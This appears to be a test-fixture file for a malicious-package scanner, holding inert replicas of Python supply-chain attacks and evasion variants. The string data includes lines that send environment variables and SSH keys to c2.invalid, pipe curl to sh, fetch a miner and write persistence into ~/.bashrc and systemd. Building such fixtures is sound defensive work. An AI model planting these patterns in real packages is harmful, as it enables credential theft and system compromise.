"""Replicas of what has happened, inert: the shape of each attack with a payload that prints a word.

Addresses end in ``.invalid``; every snippet is data for the scanner and is never run.
"""

from __future__ import annotations

import base64
import codecs
import io
import marshal
import zipfile
import zlib
from collections.abc import Mapping

from tests.support.factories import Files

Site = Mapping[str, Files]
"""Distributions of one site directory, by ``name-version``."""

INERT = "print('inert')"
STEAL = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('https://c2.invalid', str(dict(os.environ)).encode())\n"
)
ELF = b"\x7fELF" + bytes(60)
"""Begins as a compiled module does, and holds nothing."""
KEYS = "open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()"
CODE = marshal.dumps(compile("1", "x", "exec"))
XOR = bytes(byte ^ 7 for byte in b"import os; os.system('true')")
B64 = base64.b64encode(INERT.encode()).decode()


def _archive(name: str, text: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo(name), text)
    return buffer.getvalue()


def _package(name: str, files: Files) -> Site:
    return {f"{name}-1.0": files}


CASES: dict[str, tuple[Site, str]] = {
    "litellm 1.82.7: decoded and run when the proxy is imported": (
        _package(
            "litellm",
            {
                "litellm/__init__.py": "",
                "litellm/proxy/__init__.py": "",
                "litellm/proxy/proxy_server.py": "import base64, subprocess, sys\n"
                f"b64 = '{B64}'\n"
                "subprocess.run([sys.executable, '-c', "
                "f\"import base64; exec(base64.b64decode('{b64}'))\"])\n",
            },
        ),
        "high",
    ),
    "elementary-data: one line of a quarter of a megabyte": (
        _package(
            "elementary-data",
            {
                "elementary/__init__.py": "",
                "elementary.pth": "import base64, sys; exec(base64.b64decode('"
                + base64.b64encode((INERT + "\n#" + "x" * 180_000).encode()).decode()
                + "'))\n",
            },
        ),
        "critical",
    ),
    "Hades: a program is fetched and started once": (
        _package(
            "nhmpy",
            {
                "nhmpy/__init__.py": "",
                "nhmpy/_index.js": "// inert\n",
                "nhmpy-setup.pth": "import os as _O, tempfile as _T; exec('''\\n"
                'm = _O.path.join(_T.gettempdir(), ".bun_ran")\\n'
                "if not _O.path.exists(m):\\n"
                "    import urllib.request as u, subprocess as s, glob\\n"
                '    b = _O.path.join(_T.gettempdir(), "bun")\\n'
                '    u.urlretrieve("https://example.invalid/bun.zip", b)\\n'
                "    _O.chmod(b, 493)\\n"
                '    s.run([b, "run", _O.path.join(_O.path.dirname(m), "_index.js")])\\n'
                "    open(m, \"w\").close()\\n''')\n",
            },
        ),
        "critical",
    ),
    "Hades: the loader looks for its program on the path": (
        {
            "loader-1.0": {
                "loader-setup.pth": "import os, sys, subprocess; "
                "[subprocess.run(['bun', os.path.join(p, '_index.js')]) "
                "for p in sys.path if os.path.exists(os.path.join(p, '_index.js'))]\n"
            },
            "carrier-1.0": {"_index.js": "// inert\n", "carrier.py": ""},
        },
        "critical",
    ),
    "Hades: a compiled module that the line loads": (
        _package(
            "ensmallen",
            {
                "ensmallen-setup.pth": "import ensmallen._core\n",
                "ensmallen/__init__.py": "",
                "ensmallen/_core.abi3.so": ELF,
            },
        ),
        "high",
    ),
    "lightning: a thread that is started by the import": (
        _package(
            "lightning",
            {
                "lightning/__init__.py": "import threading\nfrom lightning._runtime.start import go\n"
                "threading.Thread(target=go, daemon=True).start()\n",
                "lightning/_runtime/__init__.py": "",
                "lightning/_runtime/start.py": "import os, subprocess\n"
                "def go():\n    subprocess.Popen([os.path.join(os.path.dirname(__file__), 'router')])\n",
            },
        ),
        "high",
    ),
    "mistralai: a program is fetched with curl and started": (
        _package(
            "mistralai",
            {
                "mistralai/__init__.py": "",
                "mistralai/client/__init__.py": "import os, platform\n"
                "if platform.system() == 'Linux':\n"
                "    os.system('curl -k -L -s https://example.invalid/t.pyz -o /tmp/t.pyz "
                "&& python3 /tmp/t.pyz &')\n",
            },
        ),
        "high",
    ),
    "UPSTYLE: a line that decodes, hooks a signal and writes itself anew": (
        _package(
            "system",
            {
                "system.pth": "import base64;exec(base64.b64decode('"
                + base64.b64encode(
                    b"import os, signal, threading, time\n"
                    b"def stop(number, frame):\n"
                    b"    open('/usr/lib/python3.6/site-packages/system.pth', 'w').write('x')\n"
                    b"def protect():\n"
                    b"    signal.signal(signal.SIGTERM, stop)\n"
                    b"def check():\n"
                    b"    if b'monitor mp' in open('/proc/self/cmdline', 'rb').read():\n"
                    b"        exec('print(1)')\n"
                    b"protect()\n"
                    b"threading.Thread(target=check).start()\n"
                ).decode()
                + "'))\n"
            },
        ),
        "critical",
    ),
    "ultralytics: a miner is fetched when the model is loaded at import": (
        _package(
            "ultralytics",
            {
                "ultralytics/__init__.py": "from ultralytics.utils import downloads\n",
                "ultralytics/utils/__init__.py": "",
                "ultralytics/utils/downloads.py": "import os, subprocess, urllib.request\n"
                "def safe_run(path):\n"
                "    os.chmod(path, 0o777)\n"
                "    subprocess.Popen([path, '-u', 'wallet', '-o', 'pool.invalid:8080'])\n"
                "urllib.request.urlretrieve('https://example.invalid/xmrig', '/tmp/ultralytics_runner')\n"
                "safe_run('/tmp/ultralytics_runner')\n",
            },
        ),
        "high",
    ),
    "ctx: the environment is sent when an object is made at import": (
        _package(
            "ctx",
            {
                "ctx.py": "import base64, os, requests\n"
                "class Ctx(dict):\n"
                "    def __init__(self):\n"
                "        self.sendRequest()\n"
                "    def sendRequest(self):\n"
                "        text = ''.join(f'{k}={v}' for k, v in os.environ.items())\n"
                "        text = base64.b64encode(text.encode()).decode()\n"
                "        requests.get('https://example.invalid/hacked/' + text)\n"
                "Ctx()\n"
            },
        ),
        "high",
    ),
    "torchtriton: a binary of the package is run by the import": (
        _package(
            "torchtriton",
            {
                "triton/__init__.py": "import os, subprocess\n"
                "subprocess.run([os.path.join(os.path.dirname(__file__), 'runtime', 'triton')])\n",
                "triton/runtime/triton": ELF,
            },
        ),
        "high",
    ),
    "T1546.018: sitecustomize": (_package("hook", {"sitecustomize.py": STEAL}), "critical"),
    "T1546.018: usercustomize": (_package("hook", {"usercustomize/__init__.py": STEAL}), "critical"),
}

LINE = "import base64, sys; exec({})\n"

VARIATIONS: dict[str, tuple[Site, str]] = {
    "hexadecimal": (
        _package("v", {"v.pth": LINE.format(f"bytes.fromhex('{INERT.encode().hex()}')")}),
        "critical",
    ),
    "base 85": (
        _package("v", {"v.pth": LINE.format(f"base64.b85decode({base64.b85encode(INERT.encode())!r})")}),
        "critical",
    ),
    "base 32, backwards": (
        _package(
            "v",
            {
                "v.pth": LINE.format(
                    f"base64.b32decode('{base64.b32encode(INERT.encode()).decode()[::-1]}'[::-1])"
                )
            },
        ),
        "critical",
    ),
    "compressed": (
        _package(
            "v",
            {
                "v.pth": "import zlib, base64; exec(zlib.decompress(base64.b64decode("
                f"{base64.b64encode(zlib.compress(INERT.encode()))!r})))\n"
            },
        ),
        "critical",
    ),
    "rotated letters": (
        _package(
            "v",
            {"v.pth": f"import codecs; exec(codecs.decode({codecs.encode(INERT, 'rot13')!r}, 'rot13'))\n"},
        ),
        "critical",
    ),
    "marshalled": (
        _package(
            "v",
            {"v.pth": f"import marshal; exec(marshal.loads({CODE!r}))\n"},
        ),
        "critical",
    ),
    "xor": (
        _package("v", {"v.pth": f"import sys; exec(bytes(b ^ 7 for b in {XOR!r}).decode())\n"}),
        "critical",
    ),
    "the payload in a data file, encoded": (
        _package(
            "v",
            {
                "v.pth": "import base64, os; f = open(os.path.join(sitedir, 'v.dat')); "
                "exec(base64.b64decode(f.read()))\n",
                "v.dat": B64,
            },
        ),
        "critical",
    ),
    "the payload in a data file": (
        _package(
            "v", {"v.pth": "import os; exec(open(os.path.join(sitedir, 'v.dat')).read())\n", "v.dat": INERT}
        ),
        "high",
    ),
    "split over two packages: line and module": (
        {
            "front-1.0": {"front.pth": "import back_util; back_util.setup()\n"},
            "back-util-1.0": {"back_util.py": "import os\ndef setup():\n    os.system('true')\n"},
        },
        "critical",
    ),
    "split over two packages: code and text": (
        {
            "front-1.0": {
                "front.pth": "import front\n",
                "front.py": "import base64, back\nexec(base64.b64decode(back.DATA))\n",
            },
            "back-1.0": {"back.py": f"DATA = '{B64}'\n"},
        },
        "critical",
    ),
    "delayed by a timer": (
        _package(
            "v",
            {
                "v.pth": "import v\n",
                "v.py": "import os, threading\nthreading.Timer(3600, os.system, ['true']).start()\n",
            },
        ),
        "critical",
    ),
    "delayed until the end": (
        _package(
            "v", {"v.pth": "import v\n", "v.py": "import atexit, os\natexit.register(os.system, 'true')\n"}
        ),
        "critical",
    ),
    "delayed until an error": (
        _package(
            "v",
            {
                "v.pth": "import v\n",
                "v.py": "import os, sys\ndef hook(*args):\n    os.system('true')\nsys.excepthook = hook\n",
            },
        ),
        "critical",
    ),
    "guarded by a date": (
        _package("v", {"v.pth": "import os, time; time.time() > 1900000000 and os.system('true')\n"}),
        "critical",
    ),
    "guarded by the name of the host": (
        _package(
            "v",
            {"v.pth": "import os, socket; socket.gethostname().endswith('.corp') and os.system('true')\n"},
        ),
        "critical",
    ),
    "guarded by CI": (
        _package(
            "v",
            {
                "v.pth": "import v\n",
                "v.py": "import os\nif 'CI' not in os.environ:\n    os.system('true')\n",
            },
        ),
        "critical",
    ),
    "guarded by a debugger": (
        _package(
            "v",
            {
                "v.pth": "import v\n",
                "v.py": "import os, sys\nif not sys.gettrace():\n    os.system('true')\n",
            },
        ),
        "critical",
    ),
    "guarded by a marker file": (
        _package(
            "v",
            {
                "v.pth": "import v\n",
                "v.py": "import os\nif not os.path.exists('/tmp/.x'):\n    os.system('true')\n",
            },
        ),
        "critical",
    ),
    "guarded by a variable that is its own": (
        _package(
            "v",
            {
                "v.pth": "import v\n",
                "v.py": "import os\nif os.environ.get('V_DEBUG'):\n    os.system('true')\n",
            },
        ),
        "high",
    ),
    "a native loader that is only named": (
        _package("v", {"v.pth": "import _v\n", "_v.cpython-311-x86_64-linux-gnu.so": ELF}),
        "high",
    ),
    "a native loader inside the package": (
        _package("v", {"v.start": "v._v:go\n", "v/__init__.py": "", "v/_v.abi3.so": ELF}),
        "high",
    ),
    "a native loader of another package": (
        {
            "front-1.0": {"front.pth": "import back._v\n"},
            "back-1.0": {"back/__init__.py": "", "back/_v.so": ELF},
        },
        "high",
    ),
    "guarded by a platform, through a constant of another module": (
        _package(
            "v",
            {
                "v.pth": "import v\n",
                "v/__init__.py": "import os\nfrom v._common import LINUX\n"
                "if LINUX:\n    os.system('true')\n",
                "v/_common.py": "import sys\nLINUX = sys.platform.startswith('linux')\n",
            },
        ),
        "critical",
    ),
    "guarded by a platform that chooses the module": (
        _package(
            "v",
            {
                "v/__init__.py": "from v._common import LINUX\n"
                "if LINUX:\n    from v import _linux as impl\n"
                "else:\n    from v import _other as impl\nimpl.go()\n",
                "v/_common.py": "import sys\nLINUX = sys.platform.startswith('linux')\n",
                "v/_linux.py": "import os\ndef go():\n    os.system('true')\n",
                "v/_other.py": "def go():\n    pass\n",
            },
        ),
        "high",
    ),
    "guarded by a date, at import": (
        _package(
            "v",
            {
                "v.py": "import datetime, os\nif datetime.date.today() > datetime.date(2030, 1, 1):\n"
                "    os.system('true')\n"
            },
        ),
        "high",
    ),
    "guarded by host and user, at import": (
        _package(
            "v",
            {
                "v.py": "import getpass, os, socket\n"
                "if socket.gethostname().startswith('ci-') and getpass.getuser() != 'root':\n"
                "    os.system('true')\n"
            },
        ),
        "high",
    ),
    "guarded by a variable that is always set": (
        _package("v", {"v.py": "import os\nif os.environ.get('HOME'):\n    os.system('true')\n"}),
        "high",
    ),
    "keys are encrypted and sent by the import": (
        _package(
            "v",
            {
                "v.py": "import os, urllib.request\nfrom cryptography.fernet import Fernet\n"
                f"sealed = Fernet(b'x').encrypt({KEYS})\n"
                "urllib.request.urlopen('https://c2.invalid', sealed)\n"
            },
        ),
        "critical",
    ),
    "keys are encrypted and sent by programs": (
        _package(
            "v",
            {
                "v/__init__.py": "from v import take, give\n",
                "v/take.py": f"import os, subprocess\nopen('/tmp/k', 'wb').write({KEYS})\n"
                "subprocess.run(['openssl', 'enc', '-aes-256-cbc', '-in', '/tmp/k', '-out', '/tmp/e'])\n",
                "v/give.py": "import subprocess\n"
                "subprocess.run(['curl', '-T', '/tmp/e', 'https://c2.invalid'])\n",
            },
        ),
        "critical",
    ),
    "a native sitecustomize": (_package("v", {"sitecustomize.so": ELF}), "high"),
    "a library that is loaded by its path": (
        _package(
            "v",
            {"v.pth": "import ctypes; ctypes.CDLL(sitedir + '/v.so')\n", "v.so": ELF},
        ),
        "high",
    ),
    "a zip on the path": (
        _package(
            "v",
            {"v.pth": "v.dat\n", "v.dat": _archive("sitecustomize.py", "import os\nos.system('true')\n")},
        ),
        "critical",
    ),
    "a start file": (
        _package("v", {"v.start": "v:go\n", "v.py": "import os\ndef go():\n    os.system('true')\n"}),
        "critical",
    ),
    "a start file for somebody else's program": (_package("v", {"v.start": "code:interact\n"}), "high"),
    "another name for everything": (
        _package("v", {"v.pth": "import sys; getattr(__import__('o' + 's'), 'metsys'[::-1])('true')\n"}),
        "critical",
    ),
    "the shell fetches": (
        _package("v", {"v.pth": "import os; os.popen('curl -s https://c2.invalid | sh')\n"}),
        "critical",
    ),
    "a socket is opened": (
        _package(
            "v", {"v.pth": "import socket; socket.create_connection(('c2.invalid', 443)).send(b'x')\n"}
        ),
        "critical",
    ),
    "the file of another program is written": (
        _package("v", {"v.pth": "import os; open(os.path.expanduser('~/.bashrc'), 'a').write('true')\n"}),
        "critical",
    ),
    "a timer of the system is written": (
        _package(
            "v",
            {
                "v.pth": "import v\n",
                "v.py": "import pathlib\n"
                "home = pathlib.Path.home()\n"
                "(home / '.config/systemd/user/v.service').write_text('[Service]\\nExecStart=true\\n')\n",
            },
        ),
        "critical",
    ),
    "keys are read": (
        _package("v", {"v.pth": "import os; k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"}),
        "critical",
    ),
    "it starts Python, which starts it": (
        _package(
            "v", {"v.pth": "import subprocess, sys; subprocess.Popen([sys.executable, '-c', 'pass'])\n"}
        ),
        "critical",
    ),
    "every child is preloaded": (
        _package("v", {"v.pth": "import os; os.environ['LD_PRELOAD'] = sitedir + '/v.so'\n"}),
        "high",
    ),
    "whoever imports requests gets another one": (
        _package(
            "v",
            {
                "v.pth": "import v\n",
                "v.py": "import sys\n"
                "class Finder:\n"
                "    def find_spec(self, name, path=None, target=None):\n"
                "        if name == 'requests':\n"
                "            return spec_of_ours(name)\n"
                "sys.meta_path.insert(0, Finder())\n",
            },
        ),
        "high",
    ),
}
